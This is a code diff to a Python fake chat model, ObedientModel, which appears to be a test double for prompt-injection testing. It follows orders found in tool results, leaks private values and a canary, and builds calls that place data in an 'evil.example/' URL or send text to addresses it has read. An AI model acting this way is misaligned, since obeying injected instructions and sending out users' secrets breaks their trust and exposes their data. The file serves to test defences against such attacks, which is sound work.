@@ -44,7 +44,7 @@ class ObedientModel(BaseChatModel):
 
     Attributes:
         tools: Names and parameters of the tools bound to it.
-        first: The tool that the question needs, called before anything else; empty for none.
+        first: Names of the tools that the question needs, called before any other.
         systems: The system prompts it was sent.
         rounds: Rounds of obedient calls before it answers.
         careful: Whether it leaves the canary out, as a text may tell it.
@@ -74,12 +74,13 @@ class ObedientModel(BaseChatModel):
         results = [m for m in messages if isinstance(m, ToolMessage)]
         rounds = sum(bool(m.tool_calls) for m in messages if isinstance(m, AIMessage))
         needed = [name for name in self.first.split() if name in self.tools]
-        if not results and needed:
-            return _calls([(needed[0], self._needed(needed[0], asked[-1]))])
+        if len(results) < len(needed):
+            name = needed[len(results)]
+            return _calls([(name, {self.tools[name][0]: asked[-1]})])
         read = "\n".join([*asked, *(m.text for m in results)])
         orders = orders_in(read)
         private = _private(messages, careful=self.careful)
-        if self.tools and rounds <= self.rounds and orders:
+        if self.tools and rounds < self.rounds + len(needed) and orders:
             calls = list(self._obedient_calls(orders, read, private, rounds))
             if calls:
                 return _calls(calls, say=private[0] if "secret" in orders and private else "")
@@ -87,9 +88,6 @@ class ObedientModel(BaseChatModel):
         if self.focus is not None and parts:
             parts = [parts[self.focus % len(parts)]]
         return AIMessage("\n\n".join([ANSWER, *parts, *_lines(read)[-1:]]))
-
-    def _needed(self, name: str, question: str) -> dict[str, str]:
-        return {self.tools[name][0]: question}
 
     def _obedient_calls(
         self, orders: set[Order], read: str, private: list[str], rounds: int
@@ -113,7 +111,8 @@ class ObedientModel(BaseChatModel):
                     yield name, {first: "evil.example/" + "".join(data[:1])}
             elif first in ("query", "queries") and (named or wanted["search"]):
                 if name != "search_documents":
-                    yield name, {first: " ".join(data)}
+                    if data:
+                        yield name, {first: " ".join(data)}
                     yield name, {first: " ".join(_lines(read)[-1].split()[:12])}
             elif first in ("text", "of", "task") and (named or wanted["send"]):
                 other = {"to": addresses[-1]} if "to" in parameters else {}
